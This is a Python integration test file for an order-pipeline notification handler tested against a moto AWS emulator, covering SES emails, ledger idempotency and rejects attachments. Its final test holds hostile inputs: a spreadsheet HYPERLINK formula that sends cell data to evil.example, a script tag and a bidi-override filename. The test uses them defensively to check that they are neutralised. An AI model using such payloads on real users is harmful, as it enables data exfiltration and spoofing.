"""The notify handler against a moto server over HTTP: what SES recorded, what the ledger says."""

from __future__ import annotations

import csv
import io
import json
import uuid
from email import message_from_string, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest

from core import bootstrap
from core.aws.clients import Clients
from core.local.worker import LambdaContext
from core.pipeline.notice import FileNotice, SampleRow
from core.pipeline.notify import (
    Claim,
    DynamoNotifyLedger,
    Notifier,
    S3RejectsStore,
    SesMailer,
    messages_from_event,
)
from handlers.notify import handler
from tests.support.faults import FaultPlan

pytestmark = pytest.mark.integration


def rejects_csv(lines: list[int]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["line", "Order_Id", "Order_Total", "reasons"])
    writer.writerows([n, f"ORD-{n}", "12,5", "total_not_number"] for n in lines)
    return out.getvalue().encode()


def seed_file(stack: Any, name: str, lines: list[int]) -> FileNotice:
    """What ingest leaves behind for a PARTIAL file: a ledger item and a rejects CSV."""
    key = f"incoming/{name}"
    file_id = f"{stack.names.bucket}/{key}#etag:{name}"
    body = rejects_csv(lines)
    stack.clients.s3.put_object(Bucket=stack.names.bucket, Key=f"rejects/{key}.csv", Body=body)
    stack.clients.dynamodb.put_item(
        TableName=stack.names.files_table,
        Item={
            "file_id": {"S": file_id},
            "bucket": {"S": stack.names.bucket},
            "object_key": {"S": key},
            "status": {"S": "PARTIAL"},
            "updated_at": {"S": "2026-11-25T09:00:00.000Z"},
            "received_at": {"S": "2026-11-25T09:00:00.000Z"},
        },
    )
    return FileNotice(
        file_id=file_id,
        bucket=stack.names.bucket,
        key=key,
        version=f"etag:{name}",
        status="PARTIAL",
        rows=100,
        valid=100 - len(lines),
        invalid=len(lines),
        reasons={"total_not_number": len(lines)},
        rejects_key=f"rejects/{key}.csv",
        rejects_bytes=len(body),
        sample=[
            SampleRow(n, {"Order_Id": f"ORD-{n}", "Order_Total": "12,5"}, ["total_not_number"])
            for n in lines[:20]
        ],
        finished_at="2026-11-25T09:00:01.000Z",
    )


def through_queue(stack: Any, notices: list[FileNotice]) -> dict[str, Any]:
    """Send the notices to the notify queue and read them back as a Lambda SQS event."""
    sqs, url = stack.clients.sqs, stack.settings.notify_queue_url
    for n in notices:
        sqs.send_message(QueueUrl=url, MessageBody=n.to_json())
    arn = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"][
        "QueueArn"
    ]
    got: list[dict[str, Any]] = []
    for _ in range(10):
        if len(got) == len(notices):
            break
        want = len(notices) - len(got)
        got += sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=want, WaitTimeSeconds=1).get(
            "Messages", []
        )
    assert len(got) == len(notices), "the notify queue did not hand back every notice"
    for m in got:  # as the event source mapping would; a slow run must not see them again
        sqs.delete_message(QueueUrl=url, ReceiptHandle=m["ReceiptHandle"])
    return {
        "Records": [
            {
                "messageId": m["MessageId"],
                "receiptHandle": m["ReceiptHandle"],
                "body": m["Body"],
                "attributes": {"ApproximateReceiveCount": "1"},
                "messageAttributes": {},
                "md5OfBody": m["MD5OfBody"],
                "eventSource": "aws:sqs",
                "eventSourceARN": arn,
                "awsRegion": "us-east-1",
            }
            for m in got
        ]
    }


@pytest.fixture
def notify_env(stack: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Point the handler at this stack, with a recipient no other test uses."""
    recipient = f"ops-{uuid.uuid4().hex[:8]}@orderpipe.local"
    stack.settings = stack.settings.with_(recipients=(recipient,))
    for name, value in stack.settings.to_env().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("AWS_ENDPOINT_URL", stack.endpoint)
    return stack


def sent_to(stack: Any) -> list[dict[str, Any]]:
    with urlopen(f"{stack.endpoint}/moto-api/data.json") as response:  # loopback only
        data = json.load(response)
    # moto adds the To header's addresses to the Destinations it was given: compare as sets.
    return [
        m
        for m in data["ses"]["RawMessage"]
        if set(m["destinations"]) == set(stack.settings.recipients)
    ]


def parse(raw: str) -> EmailMessage:
    message = message_from_string(raw, policy=policy.default)
    assert isinstance(message, EmailMessage)
    return message


def ledger_item(stack: Any, file_id: str) -> dict[str, Any]:
    item: dict[str, Any] = stack.clients.dynamodb.get_item(
        TableName=stack.names.files_table, Key={"file_id": {"S": file_id}}, ConsistentRead=True
    )["Item"]
    return item


def invoke(event: dict[str, Any]) -> list[str]:
    answer = handler(event, LambdaContext("orderpipe-notify", "us-east-1", 60))
    return [f["itemIdentifier"] for f in answer["batchItemFailures"]]


def test_a_batch_becomes_one_ses_email_with_each_files_rejects(notify_env: Any) -> None:
    stack = notify_env
    a = seed_file(stack, "north.csv", [4, 9])
    b = seed_file(stack, "south.csv", [2, 3, 5])
    event = through_queue(stack, [a, b, a])  # the last one: ingest enqueued it twice

    assert invoke(event) == []

    sent = sent_to(stack)
    assert len(sent) == 1
    assert sent[0]["source"] == stack.settings.sender
    message = parse(sent[0]["raw_data"])
    assert message["Subject"] == (
        "orderpipe: 2 files need attention - 2 partly accepted, 5 rows rejected"
    )
    files = {p.get_filename(): p.get_content() for p in message.iter_attachments()}
    assert sorted(files) == ["north-rejects.csv", "south-rejects.csv"]
    south = list(csv.DictReader(io.StringIO(files["south-rejects.csv"])))
    assert [(r["line"], r["reasons"]) for r in south] == [
        ("2", "total_not_number"),
        ("3", "total_not_number"),
        ("5", "total_not_number"),
    ]
    html = message.get_body(("html",))
    assert html is not None
    assert ">9</td>" in html.get_content()

    for n in (a, b):
        item = ledger_item(stack, n.file_id)
        assert item["notify_message_id"]["S"] == sent[0]["id"]
        assert item["notified_at"]["S"].endswith("Z")
        assert "notify_claim" not in item
    outbox = list(Path(stack.settings.outbox_dir).glob("*.eml"))
    assert len(outbox) == 1
    assert parse(outbox[0].read_text())["Message-ID"] == message["Message-ID"]


def test_a_redelivered_notice_sends_no_second_email(notify_env: Any) -> None:
    stack = notify_env
    a = seed_file(stack, "east.csv", [7])
    assert invoke(through_queue(stack, [a])) == []
    assert invoke(through_queue(stack, [a])) == []
    assert len(sent_to(stack)) == 1


def test_a_replayed_file_is_notified_again_once(notify_env: Any) -> None:
    stack = notify_env
    a = seed_file(stack, "west.csv", [7])
    assert invoke(through_queue(stack, [a])) == []
    # A replay re-claims the item with a new replay id (keeping notified_at).
    stack.clients.dynamodb.update_item(
        TableName=stack.names.files_table,
        Key={"file_id": {"S": a.file_id}},
        UpdateExpression="SET replay_id = :r",
        ExpressionAttributeValues={":r": {"S": "replay-1"}},
    )
    assert invoke(through_queue(stack, [a])) == []
    assert invoke(through_queue(stack, [a])) == []
    assert len(sent_to(stack)) == 2


def test_an_unverified_sender_fails_every_message_with_the_error_in_the_ledger(
    notify_env: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    stack = notify_env
    monkeypatch.setenv("ORDERPIPE_SENDER", "nobody-verified-this@orderpipe.local")
    a = seed_file(stack, "lost.csv", [3])
    event = through_queue(stack, [a])

    failed = invoke(event)

    assert failed == [event["Records"][0]["messageId"]]
    assert sent_to(stack) == []
    item = ledger_item(stack, a.file_id)
    assert "notified_at" not in item
    assert "notify_claim" not in item  # released, so the retry can claim it
    error = item["notify_error"]["S"]
    assert "nobody-verified-this@orderpipe.local (is that sender verified?)" in error
    assert "MessageRejected" in error


def test_a_notice_for_an_unknown_file_fails_alone(notify_env: Any) -> None:
    stack = notify_env
    a = seed_file(stack, "known.csv", [3])
    stray = FileNotice(**{**a.__dict__, "file_id": a.file_id + "-gone"})
    event = through_queue(stack, [a, stray])
    by_body = {json.loads(r["body"])["file_id"]: r["messageId"] for r in event["Records"]}
    assert invoke(event) == [by_body[stray.file_id]]
    assert len(sent_to(stack)) == 1


def test_past_the_cap_the_rejects_are_linked_and_the_link_downloads_them(stack: Any) -> None:
    recipient = f"ops-{uuid.uuid4().hex[:8]}@orderpipe.local"
    stack.settings = stack.settings.with_(recipients=(recipient,))
    big = seed_file(stack, "big.csv", list(range(2, 30_000)))
    small = seed_file(stack, "small.csv", [4])
    clients = stack.clients
    notifier = Notifier(
        DynamoNotifyLedger(clients.dynamodb, stack.names.files_table),
        S3RejectsStore(clients.s3),
        SesMailer(clients.ses),
        sender=stack.settings.sender,
        recipients=[recipient],
        max_bytes=250_000,
    )
    event = through_queue(stack, [big, small])

    report = notifier.handle(messages_from_event(event))

    assert report.failed == {}
    assert (report.attached, report.linked) == (1, 1)
    sent = sent_to(stack)
    assert len(sent) == 1
    assert len(sent[0]["raw_data"].encode()) <= 250_000
    message = parse(sent[0]["raw_data"])
    assert [p.get_filename() for p in message.iter_attachments()] == ["small-rejects.csv"]
    text = message.get_body(("plain",))
    assert text is not None
    link = next(
        line.strip() for line in text.get_content().splitlines() if "X-Amz-Expires=604800" in line
    )
    assert link.startswith(f"{stack.endpoint}/{stack.names.bucket}/rejects/incoming/big.csv.csv?")
    with urlopen(link) as response:  # the emulator on loopback serves the presigned GET
        assert response.read() == rejects_csv(list(range(2, 30_000)))


def test_an_upload_through_ingest_ends_in_one_email_naming_its_bad_lines(
    notify_env: Any, fixtures_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The real pipeline: S3 event -> ingest handler -> notify queue -> this handler -> SES."""
    stack = notify_env
    monkeypatch.setenv("POWERTOOLS_TRACE_DISABLED", "true")
    import handlers.ingest as ingest

    bootstrap.forget_warm_clients()
    key = "incoming/seed/test_data1.csv"
    stack.clients.s3.put_object(
        Bucket=stack.names.bucket, Key=key, Body=(fixtures_dir / "test_data1.csv").read_bytes()
    )
    s3_events = stack.clients.sqs.receive_message(
        QueueUrl=stack.settings.ingest_queue_url, MaxNumberOfMessages=10, WaitTimeSeconds=1
    )["Messages"]
    answer = ingest.handler(
        {"Records": [_record(m) for m in s3_events]},
        LambdaContext("orderpipe-ingest", "us-east-1", 60),
    )
    bootstrap.forget_warm_clients()
    assert answer["batchItemFailures"] == []

    notices = _drain(stack)
    assert [n.key for n in notices] == [key]
    # Ingest may enqueue a file's notice twice (after a crash): deliver it twice, apart.
    assert invoke(through_queue(stack, notices)) == []
    assert invoke(through_queue(stack, notices)) == []

    sent = sent_to(stack)
    assert len(sent) == 1
    message = parse(sent[0]["raw_data"])
    assert message["Subject"] == (
        "orderpipe: test_data1.csv partly accepted - 5 of 12 rows rejected"
    )
    files = {p.get_filename(): p.get_content() for p in message.iter_attachments()}
    rows = list(csv.DictReader(io.StringIO(files["test_data1-rejects.csv"])))
    assert [r["line"] for r in rows] == ["6", "9", "10", "11", "12"]
    assert rows[0]["Order_Id"] == "Ord2306"
    assert all(r["reasons"] for r in rows)
    text = message.get_body(("plain",))
    assert text is not None
    body = text.get_content()
    assert "7 of 12 rows stored; 5 rejected." in body
    assert "Customer_Id.required  - Customer_Id is empty" in body


def test_a_file_whose_every_row_fails_is_recorded_and_emailed_as_rejected_with_its_rows(
    notify_env: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """S3 -> ingest -> ledger REJECTED (nothing stored) -> one email listing each bad line."""
    stack = notify_env
    monkeypatch.setenv("POWERTOOLS_TRACE_DISABLED", "true")
    import handlers.ingest as ingest

    bootstrap.forget_warm_clients()
    key = f"incoming/none-valid-{uuid.uuid4().hex[:6]}.csv"
    body = (
        "Order_Id,Customer_Id,Order_Date,Order_Status,Order_Total\n"
        "NV1,,01/02/23,Pending,10\n"
        "NV2,C2,01/02/23,Lost,11\n"
        "NV3,C3,31/02/23,Pending,12\n"
    )
    stack.clients.s3.put_object(Bucket=stack.names.bucket, Key=key, Body=body.encode())
    s3_events = stack.clients.sqs.receive_message(
        QueueUrl=stack.settings.ingest_queue_url, MaxNumberOfMessages=10, WaitTimeSeconds=1
    )["Messages"]
    answer = ingest.handler(
        {"Records": [_record(m) for m in s3_events]},
        LambdaContext("orderpipe-ingest", "us-east-1", 60),
    )
    bootstrap.forget_warm_clients()
    assert answer["batchItemFailures"] == []

    (entry,) = bootstrap.ledger(stack.settings, stack.clients).for_key(stack.names.bucket, key)
    assert (entry.status, entry.rows, entry.valid, entry.invalid) == ("REJECTED", 3, 0, 3)
    assert entry.error is None  # rejected for its rows, not refused as a file
    orders = stack.clients.dynamodb.scan(TableName=stack.names.orders_table)["Items"]
    assert not [o for o in orders if o["Order_Id"]["S"].startswith("NV")]

    notices = _drain(stack)
    assert [(n.key, n.status) for n in notices] == [(key, "REJECTED")]
    assert invoke(through_queue(stack, notices)) == []
    (sent,) = sent_to(stack)
    message = parse(sent["raw_data"])
    name = key.removeprefix("incoming/")
    assert (
        message["Subject"] == f"orderpipe: {name} rejected - nothing stored, 3 of 3 rows rejected"
    )
    files = {p.get_filename(): p.get_content() for p in message.iter_attachments()}
    (attached,) = files.values()
    rows = list(csv.DictReader(io.StringIO(attached)))
    assert [(r["line"], r["Order_Id"]) for r in rows] == [("2", "NV1"), ("3", "NV2"), ("4", "NV3")]
    text = message.get_body(("plain",))
    assert text is not None
    content = text.get_content()
    assert "No row was valid, so no orders were stored: 3 of 3 rows rejected." in content
    assert "[Rejected]" in content
    assert "Order_Status.allowed" in content


def _record(m: dict[str, Any]) -> dict[str, Any]:
    return {
        "messageId": m["MessageId"],
        "receiptHandle": m["ReceiptHandle"],
        "body": m["Body"],
        "attributes": {"ApproximateReceiveCount": "1"},
        "messageAttributes": {},
        "md5OfBody": m["MD5OfBody"],
        "eventSource": "aws:sqs",
        "eventSourceARN": "arn:aws:sqs:us-east-1:queue",
        "awsRegion": "us-east-1",
    }


def _drain(stack: Any) -> list[FileNotice]:
    sqs, url = stack.clients.sqs, stack.settings.notify_queue_url
    out: list[FileNotice] = []
    while batch := sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages", []):
        out += [FileNotice.from_json(m["Body"]) for m in batch]
        for m in batch:
            sqs.delete_message(QueueUrl=url, ReceiptHandle=m["ReceiptHandle"])
    return out


def test_a_notify_claim_whose_reply_was_lost_is_this_senders_own(stack: Any) -> None:
    """The claim's UpdateItem is applied and its answer lost; botocore's retry fails on the
    lease it has just taken. That lease carries this sender's token: the claim is ours, not
    another sender's (BUSY), so the file is mailed now rather than left waiting."""
    notice = seed_file(stack, "lost-claim.csv", [2])
    faulty = Clients(endpoint_url=stack.endpoint, max_attempts=3)
    plan = FaultPlan.parse("dynamodb.UpdateItem=reply-timeout:1:1")
    plan.attach(faulty.dynamodb)
    ledger = DynamoNotifyLedger(faulty.dynamodb, stack.names.files_table)

    assert ledger.claim(notice.file_id, "batch-1", now_s=1_000, lease_s=60) == Claim.TAKEN
    assert plan.counts() == {"dynamodb.UpdateItem:reply-timeout": 1}
    # Another sender within the lease is still kept out.
    other = DynamoNotifyLedger(stack.clients.dynamodb, stack.names.files_table)
    assert other.claim(notice.file_id, "batch-2", now_s=1_010, lease_s=60) == Claim.BUSY


def test_a_hostile_upload_is_stored_as_read_and_emailed_escaped_and_neutralised(
    notify_env: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A key with a tab, markup and a bidi override, and a formula in a value: ingest stores
    the valid row as read, notify sends one email (nothing dead-lettered) whose Subject shows
    the key escaped and whose rejects CSV cannot run the formula. (moto's server answers 404
    to a key holding a newline, so that case is tested on the in-memory fakes.)"""
    stack = notify_env
    monkeypatch.setenv("POWERTOOLS_TRACE_DISABLED", "true")
    import handlers.ingest as ingest

    bootstrap.forget_warm_clients()
    key = "incoming/hostile\t<script>x\u202egpj.csv"
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for invoice")'
    body = (
        "Order_Id,Customer_Id,Order_Date,Order_Status,Order_Total\n"
        f"HOSTILE-1,@SUM(1+1),19/04/23,Pending,1\n"
        f'HOSTILE-2,"{formula.replace(chr(34), chr(34) * 2)}",19/04/23,Nope,-15.00\n'
    ).encode()
    stack.clients.s3.put_object(Bucket=stack.names.bucket, Key=key, Body=body)
    s3_events = stack.clients.sqs.receive_message(
        QueueUrl=stack.settings.ingest_queue_url, MaxNumberOfMessages=10, WaitTimeSeconds=1
    )["Messages"]
    answer = ingest.handler(
        {"Records": [_record(m) for m in s3_events]},
        LambdaContext("orderpipe-ingest", "us-east-1", 60),
    )
    bootstrap.forget_warm_clients()
    assert answer["batchItemFailures"] == []
    stored = stack.clients.dynamodb.get_item(
        TableName=stack.names.orders_table, Key={"Order_Id": {"S": "HOSTILE-1"}}
    )["Item"]
    assert stored["Customer_Id"] == {"S": "@SUM(1+1)"}  # only the CSVs are neutralised

    notices = _drain(stack)
    assert [n.key for n in notices] == [key]
    assert invoke(through_queue(stack, notices)) == []
    (sent,) = sent_to(stack)
    message = parse(sent["raw_data"])
    subject = str(message["Subject"])
    assert "\t" not in subject
    assert "\u202e" not in subject
    assert "hostile\\t<script>x\\u202egpj.csv" in subject
    assert message["Bcc"] is None
    (attachment,) = list(message.iter_attachments())
    rows = list(csv.reader(io.StringIO(attachment.get_content())))
    assert rows[1][:3] == ["3", "HOSTILE-2", "'" + formula]
    assert rows[1][5] == "-15.00"
    html = message.get_body(("html",))
    assert html is not None
    page = html.get_content()
    assert "&lt;script&gt;x\\u202egpj.csv" in page
    assert "<script>" not in page
